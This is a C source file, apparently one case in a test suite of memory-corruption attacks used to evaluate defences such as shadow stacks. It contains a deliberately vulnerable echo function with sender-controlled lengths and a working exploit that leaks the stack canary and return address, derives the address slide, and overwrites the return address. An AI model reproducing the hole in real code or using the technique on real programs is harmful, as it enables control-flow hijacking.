/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The return address, by a linear overflow that puts back what it goes over: an answer that is too long has told the
 * frame before, a stack protector's guard and the return address included. The latter says where the image is, too.
 */
#include "attacks.h"

#define ROOM 512

static struct attack_frame frame;

/* The mistakes: both lengths are the sender's. */
static NOINLINE unsigned echo(const uint8_t *request, size_t len, uint8_t *answer, size_t wanted)
{
	uint8_t copy[64] = { 0 };
	uint8_t *data = attack_opaque(&copy[0]);

	attack_frame_note(&frame, copy);
	memcpy(data, request, len);
	memcpy(answer, data, wanted);
	return data[0];
}

/* It has one caller, so that its return address is one, too. */
static NOINLINE unsigned serve(const uint8_t *request, size_t len, uint8_t *answer, size_t wanted)
{
	return echo(request, len, answer, wanted) + 1;
}

static bool benign(const struct attack *attack)
{
	uint8_t request[8] = { 9 }, answer[8];

	return serve(request, sizeof(request), answer, sizeof(answer)) == 10 && answer[0] == 9;
}

/* From the return address of echo() to the start of serve(), as the disassembly says. */
static NO_INSTRUMENT uintptr_t to_serve(uintptr_t returns_to)
{
	return returns_to - attack_linked_code(serve);
}

static void run(const struct attack *attack)
{
	uint8_t request[8] = { 9 }, leak[ROOM] = { 0 };
	uint64_t returns_to, goal;
	size_t end;

	benign(attack);
	end = (size_t)frame.to_return + sizeof(goal);
	serve(request, sizeof(request), leak, end);
	memcpy(&returns_to, leak + frame.to_return, sizeof(returns_to));
	/* A call is within its function: the pages tell the slide, which is a multiple of pages. */
	goal = attack_linked_code(attack_goal) + align_down(to_serve(returns_to), PAGE_SIZE);
	memcpy(leak + frame.to_return, &goal, sizeof(goal));
	attack_primitive(attack);
	serve(leak, end, request, sizeof(request));
}

ATTACK(ret_canary_leak, .family = "return address", .primitive = LINEAR_OVERFLOW, .knowledge = LAYOUT_LEAKED,
       .stopped_by = "shadowstack", .about = "what lies before the return address is leaked first, and put back",
       .run = run, .benign = benign);
